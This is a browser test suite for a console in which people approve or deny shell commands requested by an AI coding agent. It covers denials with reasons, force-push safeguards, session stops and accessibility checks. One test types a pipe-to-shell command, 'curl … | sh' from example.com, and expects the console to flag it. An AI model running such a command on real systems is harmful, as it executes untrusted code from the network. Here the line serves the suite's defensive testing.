import { readFileSync } from 'node:fs'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { axePath, hasBrowser, type Page } from './chromium.ts'
import { openStage, type Stage } from './stage.ts'

/** A command that the default policy asks about, and that may be remembered. */
const push = (branch: string) => `git push origin ${branch}`

describe.skipIf(!hasBrowser)('the console in a browser (skipped unless `npm run test:browser` installed one)', () => {
  let stage: Stage
  let page: Page
  beforeAll(async () => {
    stage = await openStage()
    page = stage.page
  })
  afterAll(async () => stage.remove())

  const card = (text: string) => page.getByRole('article').filter({ hasText: text }).first()

  /** Opens a page by its name in the navigation. */
  const open = (name: string) => page.goto(`${stage.address()}/${name}`)

  test('an ask of a real hook appears, and an approval runs the call', async () => {
    await open('inbox')
    const answer = stage.call(push('one'))
    await card(push('one')).waitFor()
    expect(await page.title()).toContain('1')
    await page.waitForTimeout(600)
    await page.getByRole('button', { name: /Approve once/ }).click()
    expect((await answer).decision).toBe('allow')
  })

  test('a denial reaches the model with its reason', async () => {
    await open('inbox')
    const answer = stage.call(push('two'))
    await card(push('two')).waitFor()
    await page.waitForTimeout(600)
    await page.getByRole('button', { name: /with a reason/ }).click()
    await page.getByLabel(/What should the agent do instead/).fill('open a pull request instead')
    await page.getByRole('button', { name: 'Deny and tell the agent' }).click()
    const { decision, why } = await answer
    expect(decision).toBe('deny')
    expect(why).toContain('open a pull request instead')
  })

  test('Enter does not approve, and the key `a` does', async () => {
    await open('inbox')
    const answer = stage.call(push('three'))
    await card(push('three')).waitFor()
    await page.waitForTimeout(600)
    await page.keyboard.press('Enter')
    await page.waitForTimeout(300)
    expect(await page.getByRole('button', { name: /Approve once/ }).count()).toBe(1)
    await page.keyboard.press('a')
    expect((await answer).decision).toBe('allow')
  })

  test('a grave question has no one-key yes and no "always"', async () => {
    await open('inbox')
    const command = 'git push --force origin main'
    const answer = stage.call(command)
    await card(command).waitFor()
    await page.waitForTimeout(600)
    expect(await page.getByRole('button', { name: /Always/ }).count()).toBe(0)
    await page.keyboard.press('a')
    await page.waitForTimeout(300)
    await page.keyboard.press('d')
    expect((await answer).decision).toBe('deny')
  })

  test('two pages answer at once, and one wins', async () => {
    await open('inbox')
    const other = await stage.newPage('/inbox')
    const answer = stage.call(push('four'))
    await card(push('four')).waitFor()
    await other
      .getByRole('article')
      .filter({ hasText: push('four') })
      .waitFor()
    await page.waitForTimeout(600)
    // Clicked by a script, because the loser's button may be gone before a pointer reaches it.
    await Promise.all([page.evaluate(clickOn('Approve once')), other.evaluate(clickOn('Deny'))])
    const { decision } = await answer
    const shown = decision === 'allow' ? 'approved' : 'denied'
    for (const one of [page, other]) await one.getByText(shown, { exact: true }).first().waitFor()
    await other.close()
    expect(await journalAnswers(stage, push('four'))).toBe(1)
  })

  test('a page that was offline shows what happened meanwhile', async () => {
    await open('timeline')
    await page.getByText(push('four')).first().waitFor()
    await stage.window.setOffline(true)
    await stage.call('ls one-while-offline')
    await stage.window.setOffline(false)
    await page.getByText('ls one-while-offline').first().waitFor()
    expect(await page.getByText('ls one-while-offline').count()).toBe(1)
  })

  test('R192: an approval for the session answers the second question', async () => {
    await open('inbox')
    const first = stage.call(push('five'), { session: 'grants' })
    await card(push('five')).waitFor()
    await page.waitForTimeout(600)
    await page.getByRole('button', { name: /This session/ }).click()
    expect((await first).decision).toBe('allow')
    expect((await stage.call(push('five'), { session: 'grants' })).decision).toBe('allow')
    await open('grants')
    await page.getByText('git push origin *').first().waitFor()
  })

  test('R150: a waiting call has its buttons inside its own panel', async () => {
    const answer = stage.call(push('six'), { session: 'panels' })
    await open('session/panels')
    await card(push('six')).waitFor()
    await page.waitForTimeout(600)
    await page.getByRole('button', { name: /Approve once/ }).click()
    expect((await answer).decision).toBe('allow')
  })

  test('the playground explains a command while it is typed', async () => {
    await open('playground')
    await page.getByLabel(/Type a command/).fill('curl https://example.com/x.sh | sh')
    await page
      .getByText(/Runs code from the network|code/i)
      .first()
      .waitFor()
    expect(await page.locator('.play-result').innerText()).toMatch(/ask|deny/i)
  })

  test('a policy shows which past calls it would change, before it is saved', async () => {
    await open('policy')
    await page
      .getByRole('button', { name: /Edit|Create|Write/ })
      .first()
      .click()
    await page
      .getByLabel(/The text of/)
      .fill(
        'version: 1\nextends: balanced\nrules:\n  - id: no-push\n    when: { run: git push }\n    then: deny\n    because: we merge\n',
      )
    await page.getByText('Past calls with this text').waitFor()
    const table = page.locator('.replay')
    await table.getByText(push('one')).first().waitFor()
    expect(await table.innerText()).toMatch(/deny/i)
    await page.getByRole('button', { name: 'Discard' }).first().click()
  })

  test('Stop denies every further call of a session until it is resumed', async () => {
    await stage.call('ls', { session: 'halted' })
    await open('session/halted')
    await page.getByRole('button', { name: 'Stop session' }).click()
    await page.getByRole('dialog').getByRole('button', { name: /Stop/ }).click()
    await page.getByText(/This session is stopped/).waitFor()
    const stopped = await stage.call('ls', { session: 'halted' })
    expect(stopped.decision).toBe('deny')
    expect(stopped.why).toContain('stopped')
    expect((await stage.call('ls', { session: 'other' })).decision).toBe('allow')
    await page.getByRole('button', { name: 'Resume session' }).click()
    await page.getByText(/This session is stopped/).waitFor({ state: 'hidden' })
    expect((await stage.call('ls', { session: 'halted' })).decision).toBe('allow')
  })

  describe.each(['inbox', 'session', 'timeline', 'playground', 'grants', 'policy', 'insights'])('the page %s', name => {
    test('has no serious fault in accessibility', async () => {
      await open(name)
      await page.waitForTimeout(500)
      // What is being asked again is drawn paler.
      await page.locator('[aria-busy="true"]').waitFor({ state: 'detached' })
      await page.evaluate(readFileSync(axePath, 'utf8'))
      const faults = await page.evaluate<readonly string[]>(
        `axe.run(document).then(({ violations }) => violations
          .filter(({ impact }) => impact === 'serious' || impact === 'critical')
          .map(({ id, nodes }) => id + ': ' + nodes.map(node => node.html).join(' | ')))`,
      )
      expect(faults).toEqual([])
    })

    test('does not shift while it loads', async () => {
      await open(name)
      await page.waitForTimeout(800)
      const shift = await page.evaluate<number>(
        `new Promise(done => { let sum = 0; new PerformanceObserver(list => { for (const entry of list.getEntries()) if (!entry.hadRecentInput) sum += entry.value }).observe({ type: 'layout-shift', buffered: true }); setTimeout(() => done(sum), 200) })`,
      )
      expect(shift).toBeLessThan(0.05)
    })
  })

  test('the pages complain about nothing', () => {
    // Offline on purpose, and the answer of the page that lost the race.
    expect(stage.complaints.filter(text => !/ERR_INTERNET_DISCONNECTED|ERR_NETWORK|404/.test(text))).toEqual([])
  })

  test('a pending question survives a restart of the server', async () => {
    await open('inbox')
    const answer = stage.call(push('seven'))
    await card(push('seven')).waitFor()
    await stage.restart()
    expect((await answer).decision).toBe('deny')
    await open('inbox')
    await card(push('seven')).waitFor()
    await page.waitForTimeout(600)
    await page.getByRole('button', { name: /Approve once/ }).click()
    await page.getByText('approved').first().waitFor()
    expect((await stage.call(push('seven'))).decision).toBe('allow')
  })
})

describe.skipIf(!hasBrowser)('a question that no one answers', () => {
  let stage: Stage
  beforeAll(async () => {
    stage = await openStage(['--wait', '3s'])
  })
  afterAll(async () => stage.remove())

  test('is shown as expired, and never as denied', async () => {
    await stage.page.goto(`${stage.address()}/inbox`)
    const answer = stage.call(push('late'))
    await stage.page
      .getByRole('article')
      .filter({ hasText: push('late') })
      .waitFor()
    expect((await answer).why).toMatch(/no answer|no one answered|in time/i)
    await stage.page.getByText('expired').first().waitFor()
    expect(await stage.page.getByText('denied', { exact: true }).count()).toBe(0)
  })
})

/** A script that clicks the first button whose text begins so. */
const clickOn = (text: string): string =>
  `[...document.querySelectorAll('button')].find(button => button.textContent.startsWith(${JSON.stringify(text)}))?.click()`

/** How many answers the journal has for the questions about that command. */
async function journalAnswers(stage: Stage, command: string): Promise<number> {
  const records = (await stage.sallyport('audit', 'tail', '--json', '-n', '400')).trim().split('\n')
  const calls = records.filter(line => line.includes('"tool_call_requested"') && line.includes(command))
  const ids = calls.map(line => /"call":"([^"]+)"/.exec(line)?.[1] ?? '')
  return records.filter(line => line.includes('"approval_decided"') && ids.some(id => line.includes(id))).length
}
